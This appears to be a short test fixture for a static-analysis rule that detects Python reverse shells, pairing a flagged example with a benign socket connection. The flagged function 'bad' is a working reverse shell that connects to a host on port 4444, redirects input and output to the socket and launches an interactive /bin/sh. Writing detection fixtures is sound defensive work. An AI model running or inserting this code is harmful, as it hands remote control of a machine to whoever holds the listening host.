import os
import socket
import subprocess


def bad(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # ruleid: reverse-shell
    s.connect((host, 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def good(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # ok: reverse-shell
    s.connect((host, 80))
    return s.recv(100)
